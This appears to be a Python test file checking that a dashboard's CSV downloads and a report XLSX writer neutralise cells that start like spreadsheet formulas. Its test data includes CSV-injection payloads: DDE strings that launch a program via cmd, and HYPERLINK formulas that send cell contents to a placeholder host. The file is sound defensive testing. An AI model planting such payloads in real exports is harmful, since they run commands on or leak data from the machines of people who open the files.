"""One rule for the first characters of a spreadsheet formula (vocab/spreadsheet.py), used by the dashboard's CSV
downloads (an apostrophe) and the report XLSX (the quote prefix): the two lists had drifted apart (the CSV rule
missed a line feed before "=")."""

from __future__ import annotations

import openpyxl

from dashboard import ui
from reports import xlsx_out
from vocab.spreadsheet import ALWAYS_STARTS, FORMULA_STARTS, SIGN_STARTS

HARMFUL = ["=1+1", "\n=HYPERLINK(\"http://x?\"&A1)", "\r\n+HYPERLINK(\"http://x\")", "\t=cmd|' /C calc'!A0",
           "\0=1+1", "+HYPERLINK(\"http://x\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]


def test_both_outputs_use_the_one_definition():
    assert xlsx_out.FORMULA_STARTS is FORMULA_STARTS
    assert set(FORMULA_STARTS) == set(ALWAYS_STARTS) | set(SIGN_STARTS) >= {"=", "+", "-", "@", "\t", "\r", "\n"}


def test_a_csv_cell_starting_with_a_line_break_or_tab_and_a_formula_is_inert():
    assert [ui.inert_cell(v) for v in HARMFUL] == ["'" + v for v in HARMFUL]
    assert [ui.inert_cell(c + "x") for c in ALWAYS_STARTS] == ["'" + c + "x" for c in ALWAYS_STARTS]
    plain = ["+25%", "-3", "- Tin nóng", "+84 912 345 678", "@Lan xem này", "Bụi than =", " x"]
    assert [ui.inert_cell(v) for v in plain] == plain


def test_every_xlsx_text_cell_starting_a_formula_carries_the_quote_prefix(tmp_path):
    starts = [c + "1+1" for c in FORMULA_STARTS if c != "\0"]  # NUL is not valid XML: the writer drops it
    rows = [[v] for v in HARMFUL + starts + ["Bụi than phường Vàng Danh", "+84 912"]]
    path = xlsx_out.write_xlsx([xlsx_out.Sheet("Thử", "Thử", [("Ô", 30)], rows)], tmp_path / "t.xlsx")
    cells = [c for row in openpyxl.load_workbook(path)["Thử"].iter_rows() for c in row
             if c.data_type == "s" and c.value and c.value[:1] in FORMULA_STARTS]
    assert len(cells) == len(HARMFUL) + len(starts) + 1  # "+84 912" too: Excel reads any sign as a formula
    assert all(c.quotePrefix for c in cells), [c.value[:10] for c in cells if not c.quotePrefix]
